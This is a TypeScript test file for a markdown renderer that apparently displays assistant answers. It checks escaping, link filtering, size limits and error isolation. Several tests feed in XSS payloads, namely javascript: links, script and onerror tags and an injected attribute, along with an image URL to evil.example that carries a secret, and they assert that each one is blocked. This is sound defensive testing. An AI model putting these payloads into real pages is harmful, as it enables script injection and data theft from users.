import { expect } from '@open-wc/testing';
import { render as renderTemplate } from 'lit';
import { createMarkdownRenderer } from '../../src/markdown/render-markdown.js';
import { splitBlocks } from '../../src/markdown/split-blocks.js';
import { markdownView, rendererFor } from '../../src/views/markdown-view.js';
import type { Term } from '../../src/i18n/term.js';

const PLATFORM = 'https://api.miptech.example';
const LABELS = { copy: 'Copy', copyCode: 'Copy code', imageLink: (text: string) => `Image: ${text}`, tableCut: (n: number) => `${n} more rows`, answerCut: 'Too long', blockAsText: 'As text', renderFailed: 'Could not format', showRest: 'Show the rest', citation: (n: number) => `Source ${n}` };
const render = (md: string) => {
  const div = document.createElement('div');
  renderTemplate(createMarkdownRenderer([PLATFORM], LABELS).render(md), div);
  return div;
};

describe('splitBlocks', () => {
  it('splits at blank lines', () => {
    expect(splitBlocks('a\nb\n\nc\n\n\nd')).to.deep.equal(['a\nb', 'c', 'd']);
  });

  it('never splits inside a fenced code block, closed or still streaming', () => {
    expect(splitBlocks('x\n\n```js\nconst a = 1;\n\nconst b = 2;\n```\n\ny')).to.deep.equal(['x', '```js\nconst a = 1;\n\nconst b = 2;\n```', 'y']);
    expect(splitBlocks('x\n\n```\nopen\n\nstill open')).to.deep.equal(['x', '```\nopen\n\nstill open']);
    expect(splitBlocks('~~~\na\n\n```\nb\n~~~\n\nz')).to.deep.equal(['~~~\na\n\n```\nb\n~~~', 'z']);
  });

  it('gives nothing for blank text', () => {
    expect(splitBlocks('')).to.deep.equal([]);
    expect(splitBlocks('\n\n  \n')).to.deep.equal([]);
  });
});

describe('markdown rendering', () => {
  it('renders CommonMark and GFM: emphasis, lists, tables, code', () => {
    const div = render('**bold** _em_ `code`\n\n- a\n- b\n\n1. one\n2. two\n\n| Plan | Price |\n|---|---|\n| Starter | $49 |\n\n```js\nlet x = 1;\n```');
    expect(div.querySelector('strong')!.textContent).to.equal('bold');
    expect(div.querySelectorAll('ul li')).to.have.length(2);
    expect(div.querySelectorAll('ol li')).to.have.length(2);
    expect(div.querySelector('table td')!.textContent).to.equal('Starter');
    expect(div.querySelector('table')!.parentElement!.className).to.equal('table'); // scrolls in its own box
    expect(div.querySelector('pre code')!.textContent).to.equal('let x = 1;\n');
    expect(div.querySelector('.code button.copy')!.textContent).to.equal('Copy');
  });

  it('web, mail and phone links open in a new tab without opener, referrer or rank', () => {
    const div = render('[site](https://miptech.example/a) [mail](mailto:a@b.c) [call](tel:+15550132024)');
    const links = [...div.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).to.deep.equal(['https://miptech.example/a', 'mailto:a@b.c', 'tel:+15550132024']);
    for (const a of links) {
      expect(a.target).to.equal('_blank');
      expect(a.rel).to.equal('noopener noreferrer nofollow');
    }
  });

  it('drops javascript:, data: and relative links', () => {
    const div = render('[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html,<b>hi</b>) [w](/relative)');
    for (const a of div.querySelectorAll('a')) expect(a.hasAttribute('href'), a.outerHTML).to.equal(false);
  });

  it('escapes raw HTML instead of passing it through', () => {
    const div = render('<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\nhi <b onclick="x()">there</b>');
    expect(div.querySelector('script')).to.equal(null);
    expect(div.querySelector('img')).to.equal(null);
    expect(div.querySelector('b')).to.equal(null);
    expect(div.textContent).to.contain('<script>alert(1)</script>');
    expect(div.querySelectorAll('[onerror], [onclick]')).to.have.length(0);
  });

  it('loads images from the platform only; others become links (no exfiltration by image URL)', () => {
    const div = render(`![logo](${PLATFORM}/logo.png)\n\n![leak](https://evil.example/p.gif?q=secret)`);
    const images = [...div.querySelectorAll('img')];
    expect(images.map((i) => i.getAttribute('src'))).to.deep.equal([`${PLATFORM}/logo.png`]);
    const link = div.querySelector('a.image-link')!;
    expect(link.getAttribute('href')).to.equal('https://evil.example/p.gif?q=secret');
    expect(link.textContent).to.contain('leak');
  });

  it('half-finished markdown renders as text, never as broken markup', () => {
    expect(render('see [the pricing](https://mip').textContent).to.contain('[the pricing](https://mip');
    const open = render('```js\nconst a = 1;');
    expect(open.querySelector('pre')!.textContent).to.equal('const a = 1;\n');
    expect(render('**bold and').textContent!.trim()).to.equal('**bold and');
  });

  it('the block an answer is still writing hides opening markers nothing has closed yet; a finished one shows them', () => {
    const renderer = createMarkdownRenderer([PLATFORM], LABELS);
    const draw = (md: string, streaming: boolean) => {
      const div = document.createElement('div');
      renderTemplate(renderer.render(md, streaming), div);
      return div.textContent!.trim();
    };
    expect(draw('**bold and', true)).to.equal('bold and');
    expect(draw('**bold and', false)).to.equal('**bold and');
    expect(draw('see `code so far', true)).to.equal('see code so far');
    expect(draw('2 * 3 and snake_case', true), 'what cannot open stays').to.equal('2 * 3 and snake_case');
  });

  it('decodes the entities an author writes, without an HTML parser', () => {
    expect(render('AT&amp;T &copy; 2026 &#8364;5 &#x41; &bogus;').textContent!.trim()).to.equal('AT&T © 2026 €5 A &bogus;');
  });

  it('keeps every attribute it did not decide on out: no event handlers, no styles, no ids from the answer', () => {
    const div = render('[a](https://x.example "t\" onmouseover=\"alert(1)") ![i](https://evil.example/x.png "y") <a href="https://x.example" style="color:red" id="hi">raw</a>');
    const allowed = new Set(['href', 'title', 'target', 'rel', 'class', 'src', 'alt']);
    for (const el of div.querySelectorAll('*')) for (const attr of el.getAttributeNames()) expect(allowed.has(attr), `${el.tagName} ${attr}`).to.equal(true);
    expect(div.textContent).to.contain('<a href="https://x.example" style="color:red" id="hi">raw</a>');
  });

  it('caches: the same block renders to the identical template', () => {
    const renderer = createMarkdownRenderer([PLATFORM], LABELS);
    expect(renderer.render('# Hi')).to.equal(renderer.render('# Hi'));
  });
});

describe('markdown from a hostile platform: limits, said plainly', () => {
  const bigParagraph = (chars: number) => 'word '.repeat(Math.ceil(chars / 5)).slice(0, chars);
  const view = (md: string) => {
    const div = document.createElement('div');
    renderTemplate(markdownView(createMarkdownRenderer([PLATFORM], LABELS), md), div);
    return div;
  };
  const depth = 10_000;

  it('a 10,000-deep nested list is shown as text, not formatted, and says so (nothing throws)', () => {
    const list = Array.from({ length: depth }, (_, i) => `${'  '.repeat(i)}- level ${i}`).join('\n');
    const div = view(list);
    expect(div.querySelector('.cut')!.textContent).to.equal('As text');
    expect(div.querySelector('.as-text')).to.exist;
    expect(div.querySelectorAll('ul').length).to.equal(0);
    expect(div.textContent).to.contain('level 9999');
  });

  it('a 10,000-deep list nested on one line (`- - - …`) is shown as text; 16 levels are still a list', () => {
    const div = view(`${'- '.repeat(depth)}deep`);
    expect(div.querySelector('.as-text')).to.exist;
    expect(div.querySelectorAll('ul').length).to.equal(0);
    expect(view(`${'- '.repeat(16)}fine`).querySelectorAll('ul').length).to.equal(16);
    expect(view(`${'- '.repeat(17)}too deep`).querySelectorAll('ul').length).to.equal(0);
  });

  it('a 10,000-deep nested quote and 10,000-deep emphasis are shown as text', () => {
    expect(view(`${'>'.repeat(depth)} deep`).querySelector('.as-text')).to.exist;
    expect(view(`${'*'.repeat(depth)}deep${'*'.repeat(depth)}`).querySelector('.as-text')).to.exist;
    expect(view(`${'['.repeat(depth)}deep`).querySelector('.as-text')).to.exist;
  });

  it('a table past the cell limit draws what fits and says how many rows it left out', () => {
    const row = (i: number) => `| ${Array.from({ length: 25 }, () => `${i % 10}`).join(' | ')} |`;
    const table = [row(0), `|${' - |'.repeat(25)}`, ...Array.from({ length: 50 }, (_, i) => row(i))].join('\n');
    const div = render(table);
    expect(div.querySelectorAll('td').length).to.equal(1000);
    expect(div.querySelector('.cut')!.textContent).to.equal('10 more rows');
  });

  it('a table of 1,000 × 100 cells is too large to format: shown as text, and said', () => {
    const row = (i: number) => `| ${Array.from({ length: 100 }, (_, c) => `r${i}c${c}`).join(' | ')} |`;
    const table = [row(-1), `|${' --- |'.repeat(100)}`, ...Array.from({ length: 1000 }, (_, i) => row(i))].join('\n');
    const div = view(table);
    expect(div.querySelectorAll('td').length).to.equal(0);
    expect(div.querySelector('.cut')!.textContent).to.equal('As text');
  });

  it('1 MB in one block is shown as text; the answer past its limit is offered as plain text', () => {
    const div = view(bigParagraph(1_000_000));
    expect([...div.querySelectorAll('.cut')].map((p) => p.textContent)).to.include('Too long');
    expect(div.querySelector('details.rest summary')!.textContent).to.equal('Show the rest');
    expect(div.textContent!.length).to.be.greaterThan(999_000);
  });

  it('1 MB in 10,000 blocks formats at most the block limit; the rest is offered as plain text', () => {
    const answer = Array.from({ length: 10_000 }, (_, i) => `Paragraph ${i} ${bigParagraph(80)}`).join('\n\n');
    const div = view(answer);
    expect(div.querySelectorAll(':scope > p:not(.cut)').length).to.be.at.most(400);
    expect(div.querySelector('details.rest')!.textContent).to.contain('Paragraph 9999');
  });
});

describe('the parse budget per frame', () => {
  it('once a render has spent the budget parsing, the blocks left show as text, and the next frames parse them', () => {
    const renderer = createMarkdownRenderer([PLATFORM], LABELS);
    let clock = 0;
    // Every look at the clock is 5 ms later: parsing each block "takes" 5 ms.
    const now = () => (clock += 5);
    const blocks = ['**one**', '**two**', '**three**', '**four**', '**five**'];
    const drawn = () => {
      renderer.startFrame(now);
      return blocks.map((block) => {
        const div = document.createElement('div');
        renderTemplate(renderer.render(block), div);
        return div.querySelector('strong') ? 'parsed' : 'text';
      });
    };
    // 5, 10, 15 ms spent: the third block crosses the 12 ms budget, so the fourth waits.
    expect(drawn()).to.deep.equal(['parsed', 'parsed', 'parsed', 'text', 'text']);
    expect(renderer.deferred).to.equal(true);
    expect(drawn()).to.deep.equal(['parsed', 'parsed', 'parsed', 'parsed', 'parsed']);
    expect(renderer.deferred).to.equal(false);
  });
});

describe('one bad block never takes the answer with it', () => {
  it('a renderer that throws on a block: that block shows as plain text with a note, the others render', () => {
    const good = createMarkdownRenderer([PLATFORM], LABELS);
    const failing = { ...good, labels: good.labels, render: (block: string) => (block.includes('poison') ? (() => { throw new RangeError('Maximum call stack size exceeded'); })() : good.render(block)), startFrame: () => undefined, deferred: false };
    const div = document.createElement('div');
    expect(() => renderTemplate(markdownView(failing, '**before**\n\n<poison> > > >\n\n**after**'), div)).not.to.throw();
    expect(div.querySelectorAll('strong').length).to.equal(2);
    expect(div.querySelector('.cut')!.textContent).to.equal('Could not format');
    expect(div.querySelector('.as-text')!.textContent).to.equal('<poison> > > >');
  });
});

describe('scrollable blocks and the keyboard', () => {
  it('code blocks and tables take focus, so the keyboard can scroll them in every browser', () => {
    const div = render('```\nconst x = 1;\n```');
    expect(div.querySelector('pre')!.tabIndex).to.equal(0);
    const table = render('| a | b |\n| - | - |\n| 1 | 2 |');
    expect(table.querySelector<HTMLElement>('.table')!.tabIndex).to.equal(0);
  });
});

describe('the renderer for a panel', () => {
  it('is found without writing a number: Intl’s first use (100 ms on a slow phone) stays off the panel’s first render', () => {
    const asked: (Record<string, unknown> | undefined)[] = [];
    const t = ((key: string, params?: Record<string, unknown>) => (asked.push(params), `${key}${params ? JSON.stringify(params) : ''}`)) as Term;
    const first = rendererFor([], t);
    expect(asked.filter((params) => params && Object.values(params).some((value) => typeof value === 'number'))).to.deep.equal([]);
    expect(rendererFor([], t), 'the same words and origins: the same renderer').to.equal(first);
    const french = ((key: string) => `fr:${key}`) as Term;
    expect(rendererFor([], french), 'other words: a renderer of their own').to.not.equal(first);
  });
});
